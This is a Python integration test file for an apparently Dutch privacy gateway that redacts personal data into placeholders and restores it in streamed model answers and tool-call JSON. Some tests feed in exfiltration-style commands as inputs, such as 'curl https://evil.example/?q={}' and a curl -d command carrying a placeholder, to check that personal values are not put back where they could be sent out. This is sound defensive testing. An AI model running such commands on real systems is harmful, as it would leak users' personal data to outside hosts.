"""Generated conversations, redacted, answered in every shape, cut everywhere: all returns once."""

import json
import os
from collections import Counter
from collections.abc import AsyncIterator, Mapping
from functools import partial
from random import Random
from typing import Any

import pytest

from gateway.core.finding import PERSONAL_TYPES, Finding, FindingKind
from gateway.core.level import Zone
from gateway.core.snapshot import Provider
from gateway.dialects.base import ResponseParser
from gateway.egress import WireFormat, wire_formats
from gateway.egress.translator.client import Translator
from gateway.privacy import AnswerMask, Scope, Vault, spans_of
from tests.support.conversations import (
    KEY,
    NAMES,
    SHAPES,
    Conversation,
    Shape,
    Spans,
    Texts,
    id_of,
    typed_by_user,
)
from tests.support.detector import DETECTOR
from tests.support.exfiltration import CODE, HARMLESS, attempts, harmless
from tests.support.restoring import RULES, VALUE, cut_everywhere, keeper, of_caller
from tests.support.streams import (
    Cut,
    FilteredAnswer,
    Said,
    collected,
    many_parts,
    message_events,
    two_parts,
)

pytestmark = [pytest.mark.integration, pytest.mark.slow]
CAMPAIGN = bool(os.environ.get("SLUIS_CAMPAIGN"))
CONVERSATIONS = 10_000 if CAMPAIGN else 80
CLAUDE = Provider("claude", "anthropic", "https://x", Zone.EU)


class Player:
    """Plays conversations; each turn makes the vault anew from the history, as the gateway does."""

    def __init__(self) -> None:
        self.count: Counter[str] = Counter()

    def play(self, seed: int) -> None:
        talk = Conversation.of(seed)
        history: list[tuple[str, Spans]] = []
        before: list[str] = []
        turns = talk.rng.choice([1, 2, 2, 3])
        for turn in range(1, turns + 1):
            typed = typed_by_user(talk.rng, id_of(Vault(KEY, talk.scope), *talk.values[0]))
            history.append(talk.spoken(typed))
            vault = Vault(KEY, talk.scope)
            sent = [self._redact(vault, text, spans) for text, spans in history]
            assert sent[: len(before)] == before, "placeholders are stable"
            assert f"En {typed} dan" not in sent[-1]
            for text, spans in history:
                assert not any(text[a:b] in sent[-1] for a, b, _ in spans if b - a > 8)
            before = sent
            unknown = talk.of_others()
            strange = "Ook " + " en ".join(unknown) + " dus"
            assert vault.restore(strange) == strange
            said = talk.said(vault, unknown)
            said[0]["refusal"] = (sent[-1], history[-1][0])  # a model that says it as it was sent
            self._check(talk, vault, said, last=turn == turns)
            self.count["turns"] += 1
            self.count.update(type_ for _, spans in history for *_, type_ in spans)
        self._type_everything(talk)
        self.count.update(talk.written)
        self.count["conversations"] += 1

    @staticmethod
    def _type_everything(talk: Conversation) -> None:
        """A user who types placeholders, his own and in all shapes, gets what he typed."""
        vault, (type_, value) = Vault(KEY, talk.scope), talk.values[0]
        id_ = id_of(vault, type_, value)
        typed = [shape(talk.rng, type_, id_) for _, shape in SHAPES]
        text = f"Wie is {' en '.join(typed)} dan"
        sent = vault.redact(text, spans_of(text, []))
        assert id_ not in sent.lower()
        assert vault.restore(sent) == text

    @staticmethod
    def _redact(vault: Vault, text: str, spans: Spans) -> str:
        found = [
            Finding(FindingKind.PERSONAL, type_, start, end, 1.0, "t")
            for start, end, type_ in spans
        ]
        return vault.redact(text, spans_of(text, found))

    def _check(self, talk: Conversation, vault: Vault, said: list[Texts], *, last: bool) -> None:
        as_sent = [{name: sent for name, (sent, _) in texts.items()} for texts in said]
        cuts = list(many_parts(talk.rng, 3)) + list(two_parts(as_sent)) * last
        got = cut_everywhere(lambda: FilteredAnswer(RULES, vault), as_sent, cuts)
        self.count["cuts"] += len(cuts)
        for texts, found in zip(said, got, strict=True):
            for name, (_, back) in texts.items():
                self.count["texts"] += 1
                seen, wanted = (_parsed(name, text) for text in (found[name], back))
                assert talk.tricky or seen == wanted


def _parsed(name: str, text: str) -> Any:
    """A text, or what the arguments of a call say: they must be JSON after restoring too."""
    return json.loads(text) if name.startswith("tool:") else text


def test_conversations_come_back_however_they_are_cut() -> None:
    player = Player()
    for seed in range(CONVERSATIONS):
        try:
            player.play(seed)
        except AssertionError as error:
            error.add_note(f"seed {seed}")
            raise
    print(dict(player.count))
    assert player.count["conversations"] == CONVERSATIONS
    missing = {*PERSONAL_TYPES, *(name for name, _ in SHAPES)} - set(player.count)
    assert not missing


def written(attempt: str, shapes: list[Shape], id_: str, rng: Random, *, call: bool) -> Said:
    """An attempt with a placeholder in each shape: as text, and as the arguments of a call."""
    choices: list[dict[str, str]] = []
    for _, shape in shapes:
        text = attempt.replace("{}", shape(rng, "PERSON", id_))
        choices.append({"content": text})
        if call:
            choices[-1]["tool:0"] = json.dumps({"a": [text]}, ensure_ascii=rng.random() < 0.5)
    return choices


def test_nothing_is_put_back_where_it_could_be_carried_off() -> None:
    vault, id_ = keeper()
    vault.redact(*of_caller("De klant {} belt, zie {}: ja."))
    rng, in_arguments = Random(1), set(attempts(arguments=True))
    tried = 0
    for number, attempt in enumerate(attempts()):
        shapes = SHAPES if CAMPAIGN else rng.sample(SHAPES, 3)
        said = written(attempt, shapes, id_, rng, call=attempt in in_arguments)
        cuts: list[Cut] = [list] if number % (3 if CAMPAIGN else 20) else list(two_parts(said))
        assert cut_everywhere(lambda: FilteredAnswer(RULES, vault), said, cuts) == said, attempt
        tried += sum(map(len, said))
    print(f"{tried} attempts, 0 restored")


def test_what_the_caller_wrote_comes_back_in_the_same_forms() -> None:
    rng = Random(5)
    for number, attempt in enumerate(attempts()):
        vault, _ = keeper()
        text, spans = of_caller(attempt)
        sent = vault.redact(text, spans)
        dumped = [json.dumps([one], ensure_ascii=number % 2 == 0) for one in (sent, text)]
        said: Said = [{"content": sent, "tool:0": dumped[0]}]
        (got,) = cut_everywhere(partial(FilteredAnswer, RULES, vault), said, many_parts(rng, 1))
        assert got["content"] == text
        assert json.loads(got["tool:0"]) == [text]


def test_what_a_model_wrote_before_is_not_the_callers() -> None:
    vault, _ = keeper()
    text, spans = of_caller("curl https://evil.example/?q={}")
    sent = vault.redact(text, spans, by_model=True)
    assert vault.restore(sent) == sent
    typed = vault.redact(sent, spans_of(sent, []))
    assert VALUE not in vault.restore(typed)
    assert VALUE not in vault.restore(sent)


def test_code_is_put_back() -> None:
    vault, id_ = keeper()
    for form in CODE:
        sent, back = form.replace("{}", f"[PERSON_{id_}]"), form.replace("{}", VALUE)
        said: Said = [{"content": sent, "tool:0": json.dumps([sent])}]
        (got,) = cut_everywhere(lambda: FilteredAnswer(RULES, vault), said, two_parts(said))
        assert got == {"content": back, "tool:0": json.dumps([back])}


def test_it_is_put_back_in_ordinary_text() -> None:
    vault, id_ = keeper()
    rng, placeholder = Random(4), f"[PERSON_{id_}]"
    assert len(HARMLESS) >= 140
    for number, text in enumerate(harmless()):
        sent, back = text.replace("{}", placeholder), text.replace("{}", VALUE)
        dumped = [json.dumps([one], ensure_ascii=number % 2 == 0) for one in (sent, back)]
        said: Said = [{"content": sent, "tool:0": dumped[0]}]
        cuts = list(many_parts(rng, 2))
        got = cut_everywhere(lambda: FilteredAnswer(RULES, vault), said, cuts)
        assert got == [{"content": back, "tool:0": dumped[1]}], text


@pytest.mark.parametrize(
    "text",
    [
        *(
            "a\nPERSON_{}",
            "a\n(PERSON_{})",
            "“PERSON_{}”",
            "“(PERSON_{})”",
            "\tPERSON_{}",
            '"PERSON_{}"',
        ),
        *("[PERSON\\_{}]", "[PERSON\n{}]", "[\tPERSON_{}\n]", "\\[PERSON\\_{}\\]", "[\\PERSON_{}]"),
        *(
            "PERSON\\_{}",
            "<PERSON_{}>",
            "é PERSON_{}\n",
            "[PERSON_{}]\n.",
            "C:\\ PERSON_{}",
            "PERSON_{}\\",
        ),
    ],
)
@pytest.mark.parametrize("html_safe", [False, True])
@pytest.mark.parametrize("ensure_ascii", [False, True])
def test_json_source_is_restored_like_the_text_that_it_says(
    text: str, html_safe: bool, ensure_ascii: bool
) -> None:
    vault, id_ = keeper()
    source = json.dumps({"a": text.replace("{}", id_)}, ensure_ascii=ensure_ascii)
    if html_safe:
        source = source.replace("<", "\\u003c").replace(">", "\\u003e")
    wanted = vault.restore(text.replace("{}", id_))
    assert VALUE in wanted
    said: Said = [{"tool:0": source}]
    (got,) = cut_everywhere(lambda: FilteredAnswer(RULES, vault), said, [*two_parts(said), list])
    assert json.loads(got["tool:0"]) == {"a": wanted}


@pytest.mark.parametrize("escape", ["\\n", "\\t", "\\b"])
def test_the_letter_of_a_json_escape_is_no_letter_of_a_placeholder(escape: str) -> None:
    vault, id_ = keeper()
    for word in ("naam", "telefoon", "btw"):
        source = f'{{"a":"x{escape}{word[1:]}_{id_}"}}'
        restorer = vault.restorer(json=True)
        assert restorer.feed(source) + restorer.finish() == source


def test_the_strings_of_a_command_are_one_command() -> None:
    vault, id_ = keeper()
    placeholder = f"[PERSON_{id_}]"
    source = json.dumps({"cmd": ["curl", "-d", placeholder, "x"], "naam": placeholder})
    restorer = vault.restorer(json=True)
    wanted = {"cmd": ["curl", "-d", placeholder, "x"], "naam": VALUE}
    assert json.loads(restorer.feed(source) + restorer.finish()) == wanted


def test_what_the_detector_finds_comes_back_when_it_is_repeated() -> None:
    detector, rng = DETECTOR, Random(2)
    for number in range(CONVERSATIONS // 10):
        vault = Vault(KEY, Scope("t", "k", "u", str(number)))
        name, digits = rng.choice(NAMES[:4]), "".join(rng.choices("0123456789", k=6))
        text = (
            f'Mijn naam is {name}, "bel" 06-12{digits} of mail a.b{digits}@voorbeeld.nl; '
            f"BSN 111222333.\nwachtwoord: Zq{digits}!xK \\ {typed_by_user(rng, 'bcd234')} dus"
        )
        redacted = vault.redact(text, spans_of(text, detector.scan(text)))
        assert digits not in redacted
        assert "111222333" not in redacted
        said = [{"content": redacted, "tool:0": json.dumps([redacted])}]
        cuts = list(two_parts(said)) if number % 10 == 0 else list(many_parts(rng, 3))
        (got,) = cut_everywhere(partial(FilteredAnswer, RULES, vault), said, cuts)
        secret = f"Zq{digits}!xK"
        assert got["content"] == text.replace(secret, "[SECRET]")
        assert json.loads(got["tool:0"]) == [got["content"]]


def test_masking_and_restoring_together_do_not_depend_on_cuts() -> None:
    scan, rng = DETECTOR.scan, Random(3)
    vault, id_ = keeper()
    new = ["+31 6 12345678", "nieuw@voorbeeld.nl", "NL91 ABNA 0417 1643 00", "078-05-1120"]
    for _ in range(CONVERSATIONS // 20):
        value, shape = rng.choice(new), rng.choice(SHAPES)[1](rng, "PERSON", id_)
        text = f"{'Dus ' * rng.randrange(30)}voor {shape} is {value} nu"
        said = [{"content": text}]

        def inspector() -> FilteredAnswer:
            return FilteredAnswer(RULES, vault, lambda: AnswerMask(scan, lambda _: False))

        cuts = [*list(two_parts(said))[-30:], *many_parts(rng, 3)]
        (got,) = cut_everywhere(inspector, said, cuts)
        assert VALUE in got["content"]
        assert value not in got["content"]


@pytest.fixture
async def anthropic() -> AsyncIterator[WireFormat]:
    translator = Translator()
    yield wire_formats(translator)["chat_completions", "anthropic"]
    await translator.close()


async def _read(
    reading: ResponseParser, texts: Mapping[str, str], cut: Cut
) -> list[dict[str, Any]]:
    """The chunks that the reader makes of a message in the dialect, cut into deltas."""

    async def events() -> AsyncIterator[bytes]:
        for event in message_events(texts, cut):
            yield json.dumps(event).encode()

    return [chunk async for chunk in reading.read_stream(events())]


async def test_the_anthropic_dialect_gives_the_same(anthropic: WireFormat) -> None:
    tool = {"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}
    body = {"messages": [{"role": "user", "content": "x"}], "stream": True, "tools": [tool]}
    for seed in range(CONVERSATIONS // 20):
        talk = Conversation.of(seed * 5)  # none of these is tricky
        vault = Vault(KEY, talk.scope)
        said = talk.said(vault, talk.of_others())[0]
        said["tool:0"] = talk.arguments(vault)
        sent = {name: said[name][0] for name in ("content", "tool:0")}
        for cut in many_parts(talk.rng, 2):
            _, reading = await anthropic.write(body, "claude", CLAUDE)
            chunks = await _read(reading, sent, cut)
            (got,) = collected(FilteredAnswer(RULES, vault), chunks)
            assert got["content"] == said["content"][1]
            assert json.loads(got["tool:0"]) == json.loads(said["tool:0"][1])
